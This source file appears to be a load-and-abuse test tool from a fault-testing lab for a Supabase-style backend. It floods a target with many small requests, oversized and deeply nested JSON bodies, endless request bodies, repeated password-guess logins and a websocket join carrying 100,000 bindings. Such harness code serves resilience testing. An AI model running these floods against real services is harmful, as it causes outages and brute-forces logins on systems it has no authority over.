// A visitor who does their worst for a while: `node lab/faults/flood-attacker.ts KIND URL PUBLISHABLE_KEY SECONDS`. Runs at low priority, so that
// what the others notice is the server's work, not that of this process beside it.
import { request } from 'node:http';
import { setPriority } from 'node:os';
import type { FloodKind } from './floods.ts';

const [kind = '', url = '', key = '', seconds = '0'] = process.argv.slice(2);
const until = performance.now() + Number(seconds) * 1000;
setPriority(19);

/** Repeats something, `times` at the same time, until the flood ends. What the server refuses or cuts is part of it. */
const repeat = (times: number, work: () => Promise<unknown>) =>
  Promise.all(
    Array.from({ length: times }, async () => {
      while (performance.now() < until) await work().catch(() => {});
    }),
  );

const post = (path: string, body: string) =>
  fetch(new URL(path, url), {
    method: 'POST',
    body,
    headers: { apikey: key, 'content-type': 'application/json' },
  }).then((answer) => answer.arrayBuffer());

/** Sends a body without a length, until the server closes the connection. */
function endless(path: string): Promise<void> {
  return new Promise((resolve) => {
    const sending = request(new URL(path, url), { method: 'POST', headers: { apikey: key } });
    const chunk = ' '.repeat(65_536);
    const send = () => {
      while (!sending.destroyed && performance.now() < until) if (!sending.write(chunk)) return;
      sending.destroy();
    };
    sending.on('drain', send).on('error', () => {});
    sending.on('response', (answer) => answer.resume()).on('close', resolve);
    send();
  });
}

/** Joins a channel with more bindings than it may have. */
function join(): Promise<void> {
  return new Promise((resolve) => {
    const address = new URL(`/realtime/v1/websocket?apikey=${key}&vsn=1.0.0`, url);
    const socket = new WebSocket(String(address).replace(/^http/, 'ws'));
    const bindings = Array.from({ length: 100_000 }, () => ({}));
    const frame = {
      topic: 'realtime:a',
      event: 'phx_join',
      ref: '1',
      payload: { config: { postgres_changes: bindings } },
    };
    socket.onopen = () => socket.send(JSON.stringify(frame));
    socket.onmessage = () => socket.close();
    socket.onclose = () => resolve();
  });
}

const floods: Record<FloodKind, () => Promise<unknown>> = {
  'small requests': () =>
    repeat(20, () =>
      fetch(new URL('/rest/v1/companies?select=id', url), { headers: { apikey: key } }).then((answer) => answer.text()),
    ),
  'large bodies': () => repeat(4, () => post('/rest/v1/companies', `[${'{"a":1},'.repeat(480_000)}{}]`)),
  'deep JSON': () => repeat(4, () => post('/auth/v1/signup', '['.repeat(900_000))),
  'endless bodies': () => repeat(4, () => endless('/auth/v1/signup')),
  'password guesses': () =>
    repeat(20, () => post('/auth/v1/token?grant_type=password', '{"email":"a@b.example","password":"guess it"}')),
  'large joins': () => repeat(4, join),
};
await floods[kind as FloodKind]();
process.exit(0);
